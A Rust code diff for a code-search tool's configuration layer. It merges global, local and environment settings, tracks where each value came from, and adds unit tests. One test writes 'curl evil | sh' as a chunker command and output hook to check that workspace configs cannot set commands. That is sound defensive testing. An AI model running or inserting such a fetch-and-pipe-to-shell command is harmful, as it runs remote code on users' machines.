+                    // Lists may be given comma-separated: RAGREP_INDEX_EXTENSIONS=rs,vue
+                    Some(toml::Value::Array(_)) if !raw.trim_start().starts_with('[') => {
+                        toml::Value::Array(
+                            raw.split(',')
+                                .map(|item| toml::Value::String(item.trim().to_string()))
+                                .collect(),
+                        )
+                    }
+                    _ => parse_env_value(&raw),
+                };
+                self.set(&key, value, ConfigOrigin::Env(name));
+            }
+        }
+
+        let mut unknown: Vec<String> = env
+            .into_keys()
+            .filter(|name| !NON_CONFIG_ENV_VARS.contains(&name.as_str()))
+            .collect();
+        unknown.sort();
+        unknown
+    }
+
+    fn merge(&mut self, layer: toml::Table, origin: &ConfigOrigin) {
+        let Self { table, origins } = self;
+        merge_table(table, layer, "", &mut |key| {
+            origins.insert(key, origin.clone());
+        });
+    }
+
+    fn get(&self, key: &str) -> Option<&toml::Value> {
+        let mut parts = key.split('.');
+        let mut value = self.table.get(parts.next()?)?;
+        for part in parts {
+            value = value.as_table()?.get(part)?;
+        }
+        Some(value)
+    }
+
+    /// Set a dotted key, creating intermediate tables as needed
+    fn set(&mut self, key: &str, value: toml::Value, origin: ConfigOrigin) {
+        let mut table = &mut self.table;
+        let mut parts: Vec<&str> = key.split('.').collect();
+        let leaf = parts.pop().unwrap_or(key);
+        for part in parts {
+            let entry = table
+                .entry(part.to_string())
+                .or_insert_with(|| toml::Value::Table(toml::Table::new()));
+            if !entry.is_table() {
+                *entry = toml::Value::Table(toml::Table::new());
+            }
+            table = entry.as_table_mut().expect("entry was just made a table");
+        }
+        table.insert(leaf.to_string(), value);
+        self.origins.insert(key.to_string(), origin);
+    }
+}
+
+/// Merge `layer` into `table` value by value, reporting the dotted key path of each value set
+///
+/// Keys are never split on dots, so quoted keys like `[chunkers."*.proto"]` stay whole.
+fn merge_table(
+    table: &mut toml::Table,
+    layer: toml::Table,
+    prefix: &str,
+    set: &mut dyn FnMut(String),
+) {
+    for (key, value) in layer {
+        let path = if prefix.is_empty() {
+            key.clone()
+        } else {
+            format!("{}.{}", prefix, key)
+        };
+        match value {
+            toml::Value::Table(layer) => {
+                let entry = table
+                    .entry(key)
+                    .or_insert_with(|| toml::Value::Table(toml::Table::new()));
+                if !entry.is_table() {
+                    *entry = toml::Value::Table(toml::Table::new());
+                }
+                let inner = entry.as_table_mut().expect("entry was just made a table");
+                merge_table(inner, layer, &path, set);
+            }
+            value => {
+                table.insert(key, value);
+                set(path);
+            }
+        }
+    }
+}
+
+/// Remove a dotted key (a value or a whole table) from `table`
+fn remove_key(table: &mut toml::Table, key: &str) -> Option<toml::Value> {
+    match key.split_once('.') {
+        Some((head, rest)) => remove_key(table.get_mut(head)?.as_table_mut()?, rest),
+        None => table.remove(key),
+    }
+}
+
+/// Visit every non-table value in `table` with its dotted key path
+fn flatten_table(table: &toml::Table, prefix: &str, visit: &mut dyn FnMut(&String, &toml::Value)) {
+    for (key, value) in table {
+        let path = if prefix.is_empty() {
+            key.clone()
+        } else {
+            format!("{}.{}", prefix, key)
+        };
+        match value {
+            toml::Value::Table(inner) => flatten_table(inner, &path, visit),
+            _ => visit(&path, value),
+        }
+    }
+}
+
+/// Interpret an environment value as a TOML value (`true`, `500`, `["a", "b"]`),
+/// falling back to a plain string
+fn parse_env_value(raw: &str) -> toml::Value {
+    toml::from_str::<toml::Table>(&format!("value = {}", raw))
+        .ok()
+        .and_then(|mut table| table.remove("value"))
+        .unwrap_or_else(|| toml::Value::String(raw.to_string()))
+}
+
+/// Write the commented config template to `path`, refusing to overwrite unless `force`
+pub fn write_config_template(path: &Path, force: bool) -> Result<()> {
+    if path.exists() && !force {
+        bail!(
+            "Config file already exists: {} (use --force to overwrite)",
+            path.display()
+        );
+    }
+    if let Some(parent) = path.parent() {
+        fs::create_dir_all(parent)?;
+    }
+    fs::write(path, DEFAULT_CONFIG)
+        .with_context(|| format!("Failed to write config file: {}", path.display()))
+}
+
 impl ConfigManager {
     pub fn new(workspace_path: Option<&Path>) -> Result<Self> {
-        let global_config_dir = dirs::config_dir()
-            .context("Could not find config directory")?
-            .join(constants::GLOBAL_CONFIG_DIR_NAME);
+        let global_config_path = global_config_path()?;
+        if let Some(global_config_dir) = global_config_path.parent() {
+            fs::create_dir_all(global_config_dir)?;
+        }
 
-        fs::create_dir_all(&global_config_dir)?;
-        let global_config_path = global_config_dir.join(constants::CONFIG_FILENAME);
+        let mut layers = ConfigLayers::new()?;
 
         // Load or create global config
-        let global_config = if global_config_path.exists() {
-            let content = fs::read_to_string(&global_config_path)?;
-            toml::from_str(&content).unwrap_or_default()
+        if global_config_path.exists() {
+            layers.apply_file(&global_config_path, ConfigOrigin::Global)?;
         } else {
-            let default_config = Config::default();
             fs::write(&global_config_path, DEFAULT_CONFIG)?;
-            default_config
-        };
+        }
 
         // Load local config if workspace path is provided
-        let (local_config, local_config_path) = if let Some(workspace_path) = workspace_path {
-            let local_config_path = workspace_path
-                .join(constants::RAGREP_DIR_NAME)
-                .join(constants::CONFIG_FILENAME);
-            let local_config = if local_config_path.exists() {
-                let content = fs::read_to_string(&local_config_path)?;
-                Some(toml::from_str::<Config>(&content).unwrap_or_default())
-            } else {
-                None
-            };
-            (local_config, Some(local_config_path))
-        } else {
-            (None, None)
-        };
-
-        // Merge configs: local overrides global
-        let mut merged_config = global_config.clone();
-        if let Some(ref local_config) = local_config {
-            // Merge fields: local takes precedence
-            if local_config.model_cache_dir.is_some() {
-                merged_config.model_cache_dir = local_config.model_cache_dir.clone();
+        let local_config_path = workspace_path.map(local_config_path);
+        if let Some(local_config_path) = &local_config_path {
+            if local_config_path.exists() {
+                layers.apply_file(local_config_path, ConfigOrigin::Local)?;
             }
-            if local_config.reranker.is_some() {
-                merged_config.reranker = local_config.reranker.clone();
-            }
-            // git_watch always uses local if present (since it has defaults)
-            merged_config.git_watch = local_config.git_watch.clone();
         }
 
+        // Environment variables override both files
+        let env = std::env::vars_os().filter_map(|(name, value)| {
+            Some((name.into_string().ok()?, value.into_string().ok()?))
+        });
+        for name in layers.apply_env(env) {
+            warn!(
+                "Ignoring {}: it names no config key (`ragrep config show` lists them)",
+                name
+            );
+        }
+
+        let merged_config: Config = toml::Value::Table(layers.table.clone())
+            .try_into()
+            .context("Invalid configuration (check RAGREP_* environment variables)")?;
+
         Ok(Self {
-            global_config,
-            local_config,
             merged_config,
+            origins: layers.origins,
             global_config_path,
             local_config_path,
         })
     }
 
     pub fn get_model_cache_dir(&self) -> Result<PathBuf> {
-        // Local config overrides global config
-        if let Some(local_config) = &self.local_config {
-            if let Some(cache_dir) = &local_config.model_cache_dir {
-                return Ok(cache_dir.clone());
-            }
-        }
-
-        // Fall back to global config
-        if let Some(cache_dir) = &self.global_config.model_cache_dir {
+        if let Some(cache_dir) = &self.merged_config.model_cache_dir {
             return Ok(cache_dir.clone());
         }
 
         // Default to system data directory
-        let data_dir = dirs::data_dir().context("Could not find data directory")?;
-        Ok(data_dir
-            .join(constants::GLOBAL_CONFIG_DIR_NAME)
-            .join(constants::MODELS_DIR_NAME))
+        Ok(global_data_dir()?.join(constants::MODELS_DIR_NAME))
     }
 
     pub fn get_reranker_config(&self) -> Option<RerankerConfig> {
-        // Local config overrides global config
-        if let Some(local_config) = &self.local_config {
-            if let Some(reranker_config) = &local_config.reranker {
-                return Some(reranker_config.clone());
-            }
-        }
+        self.merged_config.reranker.clone()
+    }
 
-        // Fall back to global config
-        self.global_config.reranker.clone()
+    /// Every effective config key (dotted path) with its value and where it was set
+    pub fn origins(&self) -> Vec<(String, String, &ConfigOrigin)> {
+        let table = toml::Value::try_from(&self.merged_config)
+            .ok()
+            .and_then(|value| value.as_table().cloned())
+            .unwrap_or_default();
+
+        let mut values = Vec::new();
+        flatten_table(&table, "", &mut |key, value| {
+            values.push((key.clone(), value.to_string()));
+        });
+
+        values
+            .into_iter()
+            .map(|(key, value)| {
+                let origin = self.origins.get(&key).unwrap_or(&ConfigOrigin::Default);
+                (key, value, origin)
+            })
+            .collect()
     }
 
-    /// Get the merged configuration (local overrides global)
+    /// Get the merged configuration (environment overrides local, local overrides global)
     pub fn config(&self) -> &Config {
         &self.merged_config
     }
+
+    /// Read the config files and environment again
+    ///
+    /// Unlike [`ConfigManager::new`], a file that doesn't parse is an error rather than
+    /// skipped, so a typo doesn't quietly reset a running server to the defaults.
+    pub fn reload(&self) -> Result<Self> {
+        let files = std::iter::once(&self.global_config_path).chain(&self.local_config_path);
+        for path in files.filter(|path| path.exists()) {
+            load_config_file(path)?;
+        }
+
+        // The local config lives at `<workspace>/.ragrep/config.toml`
+        let workspace = self
+            .local_config_path
+            .as_deref()
+            .and_then(Path::parent)
+            .and_then(Path::parent);
+        Self::new(workspace)
+    }
+
+    /// Dotted keys whose effective value differs between this config and `other`
+    pub fn changed_keys(&self, other: &ConfigManager) -> Vec<String> {
+        let flatten = |config: &Config| {
+            let mut values = BTreeMap::new();
+            if let Ok(toml::Value::Table(table)) = toml::Value::try_from(config) {
+                flatten_table(&table, "", &mut |key, value| {
+                    values.insert(key.clone(), value.clone());
+                });
+            }
+            values
+        };
+        let (old, new) = (flatten(&self.merged_config), flatten(&other.merged_config));
+
+        let keys: BTreeSet<&String> = old.keys().chain(new.keys()).collect();
+        keys.into_iter()
+            .filter(|key| old.get(*key) != new.get(*key))
+            .cloned()
+            .collect()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_template_parses_to_defaults() {
+        let config: Config = toml::from_str(DEFAULT_CONFIG).unwrap();
+        assert_eq!(
+            config.chunking.max_tokens,
+            ChunkingConfig::default().max_tokens
+        );
+        assert!(config.git_watch.enabled);
+    }
+
+    #[test]
+    fn test_aliases() {
+        let config: Config = toml::from_str(
+            r#"
+            [aliases]
+            auth = "authentication and session handling"
+            migrations = { query = "schema migration", paths = ["db/"], top = 5 }
+            "#,
+        )
+        .unwrap();
+
+        let auth = config.alias("auth").unwrap();
+        assert_eq!(auth.query, "authentication and session handling");
+        assert!(auth.paths.is_empty());
+        let migrations = config.alias("migrations").unwrap();
+        assert_eq!(migrations.paths, ["db/"]);
+        assert_eq!(migrations.top, Some(5));
+
+        let error = config.alias("deploy").unwrap_err().to_string();
+        assert!(error.contains("@auth, @migrations"), "{}", error);
+    }
+
+    #[test]
+    fn test_parse_errors_report_location() {
+        let dir = std::env::temp_dir().join(format!("ragrep-config-{}", std::process::id()));
+        fs::create_dir_all(&dir).unwrap();
+        let path = dir.join("config.toml");
+        fs::write(&path, "[chunking]\nmax_tokens = \"lots\"\n").unwrap();
+
+        let error = load_config_file(&path).unwrap_err().to_string();
+        assert!(error.contains("line 2"), "{}", error);
+
+        let _ = fs::remove_dir_all(&dir);
+    }
+
+    #[test]
+    fn test_includes_config_files() {
+        let mut config = IndexConfig::default();
+        assert!(config.includes_file(Path::new("src/main.rs")));
+        assert!(!config.includes_file(Path::new("deploy/values.yaml")));
+        // Makefiles are a language, listed as `mk`
+        assert!(config.includes_file(Path::new("Makefile")));
+        assert!(config.includes_file(Path::new("rules.mk")));
+
+        config.include_config_files = true;
+        assert!(config.includes_file(Path::new("deploy/values.yaml")));
+        assert!(config.includes_file(Path::new("Dockerfile")));
+        assert!(!config.includes_file(Path::new("pnpm-lock.yaml")));
+        assert!(!config.includes_file(Path::new("notes.txt")));
+    }
+
+    #[test]
+    fn test_generated_files_are_not_included() {
+        let mut config = IndexConfig::default();
+        assert!(!config.includes_file(Path::new("static/vendor.min.js")));
+        assert!(!config.includes_file(Path::new("api/users_pb2.py")));
+        assert!(config.includes_file(Path::new("api/users.py")));
+
+        config.generated_files.clear();
+        assert!(config.includes_file(Path::new("static/vendor.min.js")));
+    }
+
+    #[test]
+    fn test_env_var_names() {
+        assert_eq!(env_var_name("model_cache_dir"), "RAGREP_MODEL_CACHE_DIR");
+        assert_eq!(
+            env_var_name("git_watch.enabled"),
+            "RAGREP_GIT_WATCH_ENABLED"
+        );
+        assert_eq!(
+            env_var_name("reranker.service_url"),
+            "RAGREP_RERANKER_SERVICE_URL"
+        );
+    }
+
+    #[test]
+    fn test_env_overrides_optional_keys() {
+        // Keys without a default only take environment overrides if listed in OPTIONAL_KEYS
+        let env = [
+            ("RAGREP_INDEX_MAX_SIZE_MB", "512"),
+            ("RAGREP_SERVER_MAX_CONCURRENT_SEARCHES", "4"),
+            ("RAGREP_SERVER_MAX_QUERIES_PER_MINUTE", "120"),
+            ("RAGREP_EMBEDDING_THREADS", "2"),
+            ("RAGREP_RERANKER_THREADS", "1"),
+            ("RAGREP_SEARCH_ANN_PROBES", "5"),
+            ("RAGREP_DATA_DIR", "/tmp/ragrep"),
+            ("RAGREP_SEARCH_ANN_PROBE", "5"),
+            ("HOME", "/home/user"),
+        ];
+        let mut layers = ConfigLayers::new().unwrap();
+        let unknown = layers.apply_env(
+            env.iter()
+                .map(|(name, value)| (name.to_string(), value.to_string())),
+        );
+        // Misspelled keys are reported, other variables and command-line options aren't
+        assert_eq!(unknown, vec!["RAGREP_SEARCH_ANN_PROBE".to_string()]);
+
+        let config: Config = toml::Value::Table(layers.table).try_into().unwrap();
+        assert_eq!(config.index.max_size_mb, Some(512));
+        assert_eq!(config.server.max_concurrent_searches, Some(4));
+        assert_eq!(config.server.max_queries_per_minute, Some(120));
+        assert_eq!(config.embedding.threads, Some(2));
+        assert_eq!(config.reranker.unwrap().threads, Some(1));
+        assert_eq!(config.search.ann_probes, 5);
+    }
+
+    #[test]
+    fn test_layers_record_origins() {
+        let mut layers = ConfigLayers::new().unwrap();
+        let local: toml::Table = toml::from_str(
+            "[chunking]\nmax_tokens = 256\n[chunkers.\"*.proto\"]\ncommand = \"proto-chunker\"\n",
+        )
+        .unwrap();
+        layers.merge(local, &ConfigOrigin::Local);
+        layers.set(
+            "git_watch.enabled",
+            parse_env_value("false"),
+            ConfigOrigin::Env("RAGREP_GIT_WATCH_ENABLED".to_string()),
+        );
+        layers.set(
+            "reranker.service_url",
+            parse_env_value("http://localhost:8080"),
+            ConfigOrigin::Env("RAGREP_RERANKER_SERVICE_URL".to_string()),
+        );
+
+        let config: Config = toml::Value::Table(layers.table.clone()).try_into().unwrap();
+        assert_eq!(config.chunking.max_tokens, 256);
+        // Keys the local file didn't mention keep their defaults
+        assert_eq!(config.chunking.overlap_percentage, 15);
+        // Quoted keys with dots stay whole
+        assert_eq!(config.chunkers["*.proto"].command, "proto-chunker");
+        assert!(!config.git_watch.enabled);
+        assert_eq!(
+            config.reranker.unwrap().service_url.as_deref(),
+            Some("http://localhost:8080")
+        );
+        assert_eq!(
+            layers.origins.get("chunking.max_tokens"),
+            Some(&ConfigOrigin::Local)
+        );
+        assert_eq!(layers.origins.get("chunking.overlap_percentage"), None);
+    }
+
+    #[test]
+    fn test_local_config_cannot_run_commands() {
+        let dir = std::env::temp_dir().join(format!("ragrep-user-only-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let path = dir.join("config.toml");
+        std::fs::write(
+            &path,
+            "[chunking]\nmax_tokens = 256\n[chunkers.\"*.proto\"]\ncommand = \"curl evil | sh\"\n\
+             [output]\ntemplate = \"{file}\"\nhook = \"curl evil | sh\"\n",
+        )
+        .unwrap();
+
+        let mut layers = ConfigLayers::new().unwrap();
+        layers.apply_file(&path, ConfigOrigin::Local).unwrap();
+        let config: Config = toml::Value::Table(layers.table.clone()).try_into().unwrap();
+        assert_eq!(config.chunking.max_tokens, 256);
+        assert!(config.chunkers.is_empty());
+        assert_eq!(config.output.template.as_deref(), Some("{file}"));
+        assert_eq!(config.output.hook, None);
+
+        let mut layers = ConfigLayers::new().unwrap();
+        layers.apply_file(&path, ConfigOrigin::Global).unwrap();
+        let config: Config = toml::Value::Table(layers.table.clone()).try_into().unwrap();
+        assert_eq!(config.chunkers["*.proto"].command, "curl evil | sh");
+        assert_eq!(config.output.hook.as_deref(), Some("curl evil | sh"));
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    fn test_changed_keys() {
+        let manager = |config: Config| ConfigManager {
+            merged_config: config,
+            origins: BTreeMap::new(),
+            global_config_path: PathBuf::new(),
+            local_config_path: None,
+        };
+        let old = manager(Config::default());
+        let mut config = Config::default();
+        config.git_watch.debounce_ms = 2000;
+        config.search.recency_boost = 0.5;
+        config.server.idle_unload_minutes = Some(30);
+        let new = manager(config);
+
+        assert_eq!(
+            old.changed_keys(&new),
+            [
+                "git_watch.debounce_ms",
+                "search.recency_boost",
+                "server.idle_unload_minutes"
+            ]
+        );
+        assert!(new.changed_keys(&new).is_empty());
+    }
 }